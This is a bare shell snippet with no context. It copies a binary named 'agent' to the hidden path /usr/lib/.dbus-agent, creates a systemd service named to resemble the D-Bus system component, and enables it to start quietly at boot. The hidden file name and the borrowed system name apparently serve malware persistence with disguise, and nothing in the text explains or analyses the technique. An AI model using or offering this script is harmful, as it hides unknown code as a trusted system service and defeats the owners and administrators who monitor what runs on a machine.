cp ./agent /usr/lib/.dbus-agent
cat > /lib/systemd/system/dbus-agent.service <<END
[Service]
ExecStart=/usr/lib/.dbus-agent -q
[Install]
WantedBy=multi-user.target
END
systemctl enable dbus-agent
